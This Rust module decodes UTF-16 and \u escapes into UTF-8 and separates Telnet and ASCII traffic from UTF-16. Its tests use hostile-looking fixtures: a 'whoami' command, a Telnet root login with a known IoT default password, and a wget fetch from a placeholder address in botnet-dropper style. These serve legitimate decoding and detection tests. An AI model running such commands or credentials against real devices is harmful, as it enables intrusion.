//! UTF-16 as bytes, in either order, and as escapes like `\u0041`, whose digits are a code unit.
//!
//! In: bytes. Out: the same text in UTF-8. RFC 2781; text without a byte order mark is recognised
//! by the pattern of its NULs.

use std::char::{REPLACEMENT_CHARACTER, decode_utf16};

use crate::kind::{is_text, is_visible};

/// Fewer characters may be anything.
const MIN_CHARS: usize = 4;
/// Fewer bytes of ASCII behind a mark may still be UTF-16: two or three ideographs may all look
/// like ASCII.
const MIN_ASCII_BYTES: usize = 8;
/// Without a mark, one in so many code units may be something else than ASCII text. In the result,
/// one character for so many code units may be no usual one.
const UNITS_FOR_AN_OTHER: usize = 4;
/// Digits of a code unit.
const DIGITS: usize = 4;

/// Returns UTF-16 as UTF-8; `None` for bytes that neither begin with a byte order mark nor have a
/// NUL in nearly every second place.
#[must_use]
pub(crate) fn undo(bytes: &[u8]) -> Option<Vec<u8>> {
    let (bytes, is_little) = match bytes {
        [0xff, 0xfe, rest @ ..] if !is_telnet_or_ascii(rest) => (rest, true),
        [0xfe, 0xff, rest @ ..] if !is_telnet_or_ascii(rest) => (rest, false),
        _ => (bytes, is_little(bytes)?),
    };
    let (pairs, _) = bytes.as_chunks::<2>();
    let unit = |&pair: &[u8; 2]| match is_little {
        true => u16::from_le_bytes(pair),
        false => u16::from_be_bytes(pair),
    };
    let chars = decode_utf16(pairs.iter().map(unit));
    let text: String = chars
        .map(|char| char.unwrap_or(REPLACEMENT_CHARACTER))
        .collect();
    // Compressed data may begin like a mark.
    let bad = text.chars().filter(|&char| !is_usual(char)).count();
    (!text.is_empty() && bad * UNITS_FOR_AN_OTHER <= pairs.len()).then(|| text.into_bytes())
}

/// Tells whether bytes behind a mark are no UTF-16, but ASCII or Telnet. A command of Telnet begins
/// like a mark (IAC DONT, RFC 854), and another command or text follows it.
fn is_telnet_or_ascii(rest: &[u8]) -> bool {
    match rest {
        [_option, 0xff, 0xf0..=0xff, ..] => true,
        [_option, behind @ ..] if behind.len() >= MIN_ASCII_BYTES => {
            is_text(behind) && behind.is_ascii()
        }
        _ => false,
    }
}

/// Tells whether a character is usual in text: visible, and not in the private use area.
fn is_usual(char: char) -> bool {
    is_visible(char) && !matches!(char, REPLACEMENT_CHARACTER | '\u{e000}'..='\u{f8ff}')
}

/// Tells by the NULs whether the lower byte of each code unit comes first; `None` where the bytes
/// are no text of Latin letters.
fn is_little(bytes: &[u8]) -> Option<bool> {
    let (pairs, _) = bytes.as_chunks::<2>();
    if pairs.len() < MIN_CHARS {
        return None;
    }
    let (mut little, mut big) = (0, 0);
    for pair in pairs {
        match pair {
            [b' '..=b'~' | b'\t' | b'\r' | b'\n', 0] => little += 1,
            [0, b' '..=b'~' | b'\t' | b'\r' | b'\n'] => big += 1,
            _ => {}
        }
    }
    let most = pairs.len() - pairs.len() / UNITS_FOR_AN_OTHER;
    match (little >= most, big >= most) {
        (true, _) => Some(true),
        (_, true) => Some(false),
        _ => None,
    }
}

/// Tells whether bytes are the start of Latin text in UTF-16.
#[must_use]
pub(crate) fn begins(bytes: &[u8]) -> bool {
    is_little(bytes).is_some()
}

/// Reads an escaped character: one code unit in digits, or two that make one character.
///
/// `sign` is the two bytes before the digits of each code unit. `rest` begins at the second byte of
/// the first sign. Returns the character, and its length in `rest`.
#[must_use]
pub(crate) fn escaped(rest: &[u8], sign: &[u8; 2]) -> Option<(char, usize)> {
    let first = unit(rest, sign[1])?;
    let one = 1 + DIGITS;
    if let Some(char) = char::from_u32(first.into()) {
        return Some((char, one));
    }
    let behind = rest.get(one..)?.strip_prefix(&sign[..1])?;
    let second = unit(behind, sign[1])?;
    let char = decode_utf16([first, second]).next()?.ok()?;
    Some((char, 2 * one + 1))
}

fn unit(rest: &[u8], letter: u8) -> Option<u16> {
    let (&found, digits) = rest.split_first()?;
    let digits = digits.get(..DIGITS)?;
    let is_hex = digits.iter().all(u8::is_ascii_hexdigit);
    let digits = std::str::from_utf8(digits).ok().filter(|_| is_hex)?;
    let is_sign = found.eq_ignore_ascii_case(&letter);
    u16::from_str_radix(digits, 16).ok().filter(|_| is_sign)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn both_orders_are_read() {
        let text = "whoami; echo ü\u{1f600}";
        let little: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let big: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
        for bytes in [
            little.clone(),
            big.clone(),
            [b"\xff\xfe", &little[..]].concat(),
            [b"\xfe\xff", &big[..]].concat(),
        ] {
            assert_eq!(undo(&bytes).as_deref(), Some(text.as_bytes()));
        }
        assert_eq!(
            undo(
                "\u{feff}世界"
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes)
                    .collect::<Vec<_>>()
                    .as_slice()
            ),
            Some("世界".into())
        );
    }

    #[test]
    fn other_bytes_are_none() {
        for bytes in [
            &b""[..],
            b"\xff\xfe",
            b"a\0b\0",
            b"\0\0\0\0\0\0\0\0\0\0",
            b"plain text of letters",
            b"\xff\xfe\x00\xd8\x00\xd8\x00\xd8",
            // Commands of Telnet.
            b"\xff\xfe\x01\xff\xfe\x03",
            b"\xff\xfe\x01\xff\xfb\x1f\xff\xfa\x1f\0\x50\0\x18\xff\xf0",
            b"\xff\xfe\x01root\r\nvizxv\r\n",
            b"\xff\xfewget http://198.51.100.9/x",
            b"\xff\xfe\x01\0\x02\0\x03\0\x04\0",
        ] {
            assert_eq!(undo(bytes), None, "{}", bytes.escape_ascii());
        }
    }

    #[test]
    fn code_units_are_read_from_digits() {
        assert_eq!(escaped(b"u0041", b"\\u"), Some(('A', 5)));
        assert_eq!(escaped(br"ud83d\ude00x", b"\\u"), Some(('\u{1f600}', 11)));
        for rest in [
            &b"u004"[..],
            b"u+041",
            b"x0041",
            br"ud83d\u0041",
            b"ud83d",
            b"",
        ] {
            assert_eq!(escaped(rest, b"\\u"), None, "{}", rest.escape_ascii());
        }
    }
}
